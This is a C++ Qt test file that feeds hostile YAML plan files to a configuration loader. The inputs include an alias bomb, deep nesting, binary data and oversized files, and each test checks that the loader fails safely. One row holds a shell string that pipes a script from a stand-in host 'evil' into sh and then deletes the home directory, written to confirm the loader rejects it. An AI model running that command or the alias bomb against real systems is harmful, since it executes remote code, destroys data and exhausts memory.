// Hostile plan files: each must give a precise error quickly, with bounded memory, and never
// crash. Times are printed (and only loosely bounded, as a hang guard): speed is for benchmarks.

#include "app/config/plan_loader.h"

#include <QElapsedTimer>
#include <QFile>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

#include <sys/resource.h>

using namespace Qt::StringLiterals;
using cutover::config::loadPlanBytes;
using cutover::config::loadPlanFile;
using cutover::config::PlanLoadResult;

namespace {

long maxRssKiB() {
    rusage usage{};
    getrusage(RUSAGE_SELF, &usage);
    return usage.ru_maxrss;
}

QByteArray aliasBomb() {
    // Nine levels of ten aliases: a billion strings if expanded, a few hundred bytes on disk.
    QByteArray text = "version: 1\nname: bomb\nl0: &l0 [x, x, x, x, x, x, x, x, x, x]\n";
    for (int level = 1; level < 9; ++level) {
        const QByteArray prev = "*l" + QByteArray::number(level - 1);
        text += "l" + QByteArray::number(level) + ": &l" + QByteArray::number(level) + " [";
        for (int i = 0; i < 10; ++i)
            text += (i ? ", " : "") + prev;
        text += "]\n";
    }
    // Point schema keys that are walked item by item at the bomb.
    text += "roles: { a: *l8 }\npools: { legacy: *l8, otel: *l8 }\nstages: *l8\n";
    return text;
}

// The same bomb, pointed only at the lists that escalation and notifications walk name by name.
QByteArray escalationAliasBomb() {
    QByteArray text = aliasBomb();
    text.truncate(text.indexOf("roles:"));
    return text + "notifications:\n  - { name: a, url: \"http://127.0.0.1:1/\", events: *l8 }\n"
                  "escalation: { L1: *l8, L2: *l8, events: { drift: *l8 } }\n";
}

} // namespace

class TestPlanHostile : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void hostile_data();
    void hostile();
    void hugeFileIsRefusedBeforeReading();
    void missingFileAndFolder();
    void manyErrorsAreCapped();
};

void TestPlanHostile::hostile_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("line");
    QTest::addColumn<QString>("expected");

    QByteArray binary(4096, '\0');
    auto *random = QRandomGenerator::global();
    for (char &c : binary)
        c = char(random->bounded(256));
    binary[100] = '\0';

    QTest::newRow("empty") << QByteArray() << 0 << u"found an empty file"_s;
    QTest::newRow("whitespace") << QByteArray("  \n\n\t\n") << 0 << u"found an empty file"_s;
    QTest::newRow("only-comments")
        << QByteArray("# nothing\n# here\n") << 0 << u"found only comments"_s;
    QTest::newRow("binary") << binary << -1 << u"NUL byte"_s;
    QTest::newRow("nul-at-line-3")
        << QByteArray("version: 1\nname: x\nna\0me: y\n", 26) << 3 << u"NUL byte"_s;
    QTest::newRow("latin1") << QByteArray("version: 1\nname: \"caf\xe9\"\n") << 2 << u"not UTF-8"_s;
    QTest::newRow("flow-nesting-20000") << QByteArray(20'000, '[') << 1 << u"YAML syntax"_s;
    QTest::newRow("map-nesting-20000")
        << QByteArray("a: ").repeated(1) + QByteArray("{a: ").repeated(20'000) << 1
        << u"YAML syntax"_s;
    QTest::newRow("alias-bomb") << aliasBomb() << -1 << u""_s;
    QTest::newRow("scalar-root") << QByteArray("just a sentence") << 1
                                 << u"expected a mapping with keys version"_s;
    QTest::newRow("tabs") << QByteArray("version: 1\n\tname: x\n") << -1 << u"YAML"_s;
    QTest::newRow("unclosed-flow-map")
        << QByteArray("version: 1\nname: {a: 1\n") << -1 << u"YAML syntax"_s;
    QTest::newRow("escalation-alias-bomb")
        << escalationAliasBomb() << -1 << u"expected a text, found a list"_s;
    // An upload command is run without a shell: a shell string, however it is dressed, is refused.
    QTest::newRow("upload-shell-string")
        << QByteArray("version: 1\nname: x\nrollback:\n  upload:\n    command: \"curl -s "
                      "http://evil/x | sh; rm -rf ~ # {archive}\"\n")
        << 5 << u"never a shell string"_s;
    // A megabyte of hostname must not make the listen address check crawl (no backtracking).
    QTest::newRow("listen-megabyte")
        << QByteArray("version: 1\nname: x\ncontroller:\n  listen: \"") + QByteArray(1 << 20, 'a') +
               QByteArray("!:9464\"\n")
        << 4 << u"expected host:port"_s;
    QTest::newRow("escalation-ten-thousand-names")
        << QByteArray("version: 1\nname: x\nescalation:\n  L1: [") +
               QByteArray("nobody, ").repeated(10'000) + QByteArray("nobody]\n")
        << 4 << u"unknown notification 'nobody'"_s;
    QTest::newRow("bom-and-crlf") << QByteArray("\xEF\xBB\xBFversion: 1\r\nname: x\r\n") << 1
                                  << u"missing required key 'roles'"_s;
}

void TestPlanHostile::hostile() {
    QFETCH(QByteArray, bytes);
    QFETCH(int, line);
    QFETCH(QString, expected);

    const long rssBefore = maxRssKiB();
    QElapsedTimer timer;
    timer.start();
    const PlanLoadResult result = loadPlanBytes(bytes, u"hostile.yaml"_s, QString());
    const qint64 elapsed = timer.elapsed();
    qInfo("%s: %lld ms, %d error(s), max RSS +%ld KiB", QTest::currentDataTag(), elapsed,
          int(result.errors.size()), maxRssKiB() - rssBefore);

    QVERIFY(!result.ok());
    QVERIFY(!result.errors.isEmpty());
    bool found = false;
    for (const auto &error : result.errors) {
        if ((line < 0 || error.line == line) && error.message.contains(expected))
            found = true;
    }
    QVERIFY2(found, qPrintable(result.errorText()));
    QVERIFY2(elapsed < 30'000, "hang guard: a hostile file took over 30 s");
    QVERIFY2(maxRssKiB() - rssBefore < 512 * 1024, "memory guard: over 512 MiB for one file");
}

void TestPlanHostile::hugeFileIsRefusedBeforeReading() {
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(u"huge.yaml"_s);
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    const QByteArray line = "key_with_some_length: \"a value that goes on for a while\"\n";
    while (file.size() < 15 * 1024 * 1024)
        file.write(line.repeated(1024));
    file.close();

    QElapsedTimer timer;
    timer.start();
    const auto result = loadPlanFile(path);
    qInfo("15 MB file: %lld ms", timer.elapsed());
    QVERIFY(!result.ok());
    QCOMPARE(result.errors.size(), 1);
    QVERIFY2(result.errors.first().message.contains(u"at most 4096 KiB"_s),
             qPrintable(result.errorText()));
}

void TestPlanHostile::missingFileAndFolder() {
    auto result = loadPlanFile(u"/nonexistent/plan.yaml"_s);
    QVERIFY(!result.ok());
    QVERIFY(result.unreadable);
    QVERIFY(result.errorText().contains(u"cannot open"_s));

    QTemporaryDir dir;
    result = loadPlanFile(dir.path());
    QVERIFY(result.unreadable);
    QVERIFY(result.errorText().contains(u"found a folder"_s));
}

void TestPlanHostile::manyErrorsAreCapped() {
    QByteArray text = "version: 1\n";
    for (int i = 0; i < 5000; ++i)
        text += "unknown_" + QByteArray::number(i) + ": 1\n";
    const auto result = loadPlanBytes(text, u"many.yaml"_s, QString());
    QVERIFY(!result.ok());
    QVERIFY(result.errors.size() <= 201);
    QVERIFY(result.errors.last().message.contains(u"more errors not shown"_s));
}

QTEST_GUILESS_MAIN(TestPlanHostile)
#include "test_plan_hostile.moc"
